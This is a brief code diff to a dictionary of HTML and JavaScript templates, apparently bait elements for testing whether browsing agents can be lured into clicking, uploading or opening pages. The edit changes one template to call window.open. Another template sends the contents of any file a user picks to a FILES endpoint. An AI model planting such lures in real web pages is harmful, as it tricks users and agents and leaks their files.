@@ -49,7 +49,7 @@ _ON = {
     "addEventListener('mouseup', (e) => {{if (held && e.target.id === 'end') deed(); held = false}})}}</script>",
     "upload": "<label>{label} <input id=lure type=file></label><script>document.getElementById('lure').onchange = async (e) => "
     "{{await fetch(FILES, {{method: 'POST', body: await e.target.files[0].text()}})}}</script>",
-    "window": "<button id=lure type=button onclick='open(ADDRESS)'>{label}</button>",
+    "window": "<button id=lure type=button onclick='window.open(ADDRESS)'>{label}</button>",
     "shadow": "<div id=lure style='display:inline-block'></div><script>{{"
     "const b = document.createElement('button'); b.textContent = {json}; b.onclick = deed;"
     "document.getElementById('lure').attachShadow({{mode: 'closed'}}).append(b)}}</script>",
